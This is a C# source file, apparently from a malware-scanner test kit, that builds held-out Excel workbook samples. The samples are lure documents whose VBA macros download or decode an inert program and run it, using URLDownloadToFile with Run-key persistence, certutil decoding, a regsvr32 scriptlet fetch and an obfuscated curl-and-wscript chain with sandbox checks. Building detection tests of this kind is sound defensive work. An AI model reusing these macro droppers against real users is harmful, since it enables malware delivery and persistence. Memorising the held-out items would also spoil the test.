using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Excel workbooks whose macros drop or fetch a program.</summary>
public sealed class ExcelMacroDroppers : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var program = Convert.ToBase64String(InertFiles.Pe(768));
        var rows = string.Concat(EighthForms.Pieces(program, 200).Select((piece, at) => Row(at + 40, piece)));
        yield return ("Purchase Order 4500921.xlsm", Excel([("PO", "visible", Row(1, "Please enable macros to see the price list"))], macros: Vba(("ThisWorkbook", """
            Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long
            Private Sub Workbook_Open()
                Dim f As String
                f = Environ("APPDATA") & "\winupd.exe"
                URLDownloadToFile 0, "http://192.0.2.77/po/winupd.exe", f, 0, 0
                Shell f, vbHide
                CreateObject("WScript.Shell").RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\WinUpd", f, "REG_SZ"
            End Sub
            """))));
        yield return ("Payroll_Q4.xls", Xls(new EighthBook().Sheet("Payroll").Text(0, 0, "Protected view: press Enable Content").Sheet("Data", 2).Text(0, 0, program[..200]).Build(), ("ThisWorkbook", $"""
            Sub Auto_Open()
                Dim fso, ts, t
                t = Environ("TEMP") & "\data.b64"
                Set fso = CreateObject("Scripting.FileSystemObject")
                Set ts = fso.CreateTextFile(t, True)
                ts.WriteLine "-----BEGIN CERTIFICATE-----"
                ts.WriteLine "{program[..240]}"
                ts.WriteLine "{program[240..480]}"
                ts.WriteLine "-----END CERTIFICATE-----"
                ts.Close
                Shell "cmd.exe /c certutil -decode %TEMP%\data.b64 %TEMP%\payroll.exe & start %TEMP%\payroll.exe", 0
            End Sub
            """)));
        yield return ("Quotation_request.xlsm", Excel([("Quote", "visible", Row(1, "Unable to show the contents", "Click Enable Content") + rows), ("cfg", "veryHidden", Row(1, "WScr", "ipt.S", "hell", "R", "un") + Row(2, "regsvr32 /s /n /u /i:", "https://sheet-tools.example/q/", "scrobj.dll"))], macros: Vba(("Sheet1", """
            Private Sub Frame1_Layout()
                Dim o, s As Worksheet, c As String
                Set s = ThisWorkbook.Sheets("cfg")
                c = s.Range("A1") & s.Range("B1") & s.Range("C1")
                Set o = CallByName(Application, "CreateObjectEx", VbMethod, c)
                CallByName CreateObject(c), s.Range("D1") & s.Range("E1"), VbMethod, s.Cells(2, 1) & s.Cells(2, 2) & "x.sct " & s.Cells(2, 3), 0
            End Sub
            """))));
        yield return ("Frais novembre.xls", Xls(new EighthBook().Sheet("Frais").Text(0, 0, "Veuillez activer les macros").Build(), ("ThisWorkbook", "Private Sub Workbook_BeforeClose(Cancel As Boolean)\n    Application.Run \"Module1.Mise\"\nEnd Sub"), ("Module1", """
            Dim morceaux(6) As String
            Sub Mise()
                If Application.RecentFiles.Count < 3 Then Exit Sub
                If InStr(1, Application.UserName, "test", 1) > 0 Then Exit Sub
                morceaux(0) = "cm" & "d /" & "v /c se" & "t x=^ht^tp"
                morceaux(1) = "://factures.compta-lyon.exam" & "ple/" & "f.php"
                morceaux(2) = "&& c" & "url -s !x! -o %appdata%\f.js"
                morceaux(3) = "&& wsc" & "ript //b //e:jscript %appdata%\f.js"
                VBA.Interaction.Shell# Join(morceaux, ""), 0
            End Sub
            """)));
    }
}
